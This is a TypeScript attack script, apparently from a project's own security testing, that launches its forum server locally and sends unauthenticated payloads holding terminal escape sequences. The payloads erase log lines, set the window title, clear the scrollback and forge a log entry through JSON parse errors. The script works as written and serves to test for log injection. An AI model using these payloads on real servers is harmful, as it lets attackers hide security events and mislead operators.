/**
 * Attack round 6, angle (a): a client that never logs in writes terminal control sequences into
 * the server operator's log. A request that is not JSON is logged as `Malformed request: message
 * is not JSON: <JSON.parse's error>`, and V8's error quotes the input (whole up to 20 characters,
 * else 10 from the error). So `ESC[1A ESC[2K` erases the log line above (hiding e.g. `Login of U
 * throttled`), OSC 0 sets the window title, ESC[3J clears the scrollback, and `\n` starts a forged
 * line.
 *
 * Run from the repository root after the build: `npx tsx attack/log-injection.ts`
 */
import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from '../packages/rudp/dist/index.js';

const SERVER_BIN = join(process.cwd(), 'packages/server/bin/forum-server.js');

const main = async (): Promise<void> => {
  const data = await mkdtemp(join(tmpdir(), 'a6-log-'));
  const port = 20_000 + Math.floor(Math.random() * 20_000);
  const server = spawn(process.execPath, [SERVER_BIN, String(port), '--data-dir', data, '--transfer-port', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  server.stdout.setEncoding('utf8').on('data', (s: string) => (out += s));
  while (!out.includes('Waiting for clients')) await new Promise((r) => setTimeout(r, 50));
  const conn = await connect({ port, host: '127.0.0.1' });
  const payloads = ['\x1b[1A\x1b[2K', '\x1b]0;pwned\x07\x1b[3J', '\x1b[2J\x1b[H', 'x\nyoda exited'];
  for (const p of payloads) await conn.send(new TextEncoder().encode(p));
  const deadline = Date.now() + 5_000;
  while ((out.match(/Malformed request/g) ?? []).length < payloads.length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  conn.destroy();
  server.kill('SIGTERM');
  const count = (re: RegExp): number => (out.match(re) ?? []).length;
  console.log(`server log: ${count(/\x1b/g)} ESC, ${count(/\x07/g)} BEL bytes; a line starting 'yoda exited' (forged): ${out.split('\n').some((l) => l.startsWith('yoda exited'))}`);
  for (const l of out.split('\n')) console.log(JSON.stringify(l));
  await rm(data, { recursive: true, force: true });
};

void main().then(() => process.exit(0));
